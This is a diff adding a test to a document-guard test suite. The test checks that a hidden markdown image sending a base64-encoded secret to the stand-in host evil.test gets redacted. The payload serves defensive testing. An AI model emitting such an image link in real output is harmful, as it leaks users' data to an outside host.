@@ -49,6 +49,20 @@ describe("hosts that are allowed", () => {
       documents: [{ text: "Read https://corp.test/a and [redacted:url]" }],
     });
   });
+
+  it("are not needed for colours and short links to stay as they are", async () => {
+    const server = await startServer();
+    const text = "\u001b[32mok\u001b[0m, see https://bit.ly/abc";
+    const hidden = "![p](https://evil.test/p.png?q=SGVyZSBpcyB0aGUgd2hvbGUgc2VjcmV0)";
+    const documents = [{ text }, { text: hidden }];
+    const answer = await server.call("/guard/documents", { documents });
+    expect(await answer.json()).toMatchObject({
+      documents: [
+        { text, verdict: "flag" },
+        { text: "![p]([redacted:image])", verdict: "redact" },
+      ],
+    });
+  });
 });
 
 describe("topics", () => {
